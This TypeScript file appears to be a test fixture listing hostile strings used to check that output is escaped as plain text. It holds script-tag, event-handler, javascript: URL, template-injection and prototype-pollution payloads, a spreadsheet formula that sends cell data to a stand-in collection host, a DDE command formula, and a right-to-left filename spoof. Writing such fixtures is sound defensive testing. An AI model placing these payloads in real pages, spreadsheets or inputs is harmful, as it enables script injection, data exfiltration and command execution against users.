/** Texts that nothing may take for anything else than a text; each would set `window.hostile` where it could. */
export const HOSTILE_TEXTS = [
  '<script>window.hostile=1</script>',
  '<img src=x onerror="window.hostile=1">',
  '"><svg onload="window.hostile=1"><a href="javascript:window.hostile=1">x</a>',
  'javascript:window.hostile=1',
  '=HYPERLINK("https://collect.example?"&A1,"Open")',
  '+cmd|calc!A1',
  '\u202Etxt.exe\u202C <b>bold</b>',
  '{{constructor.constructor("window.hostile=1")()}}${window.hostile=1}',
  '__proto__',
  "';window.hostile=1;//",
] as const
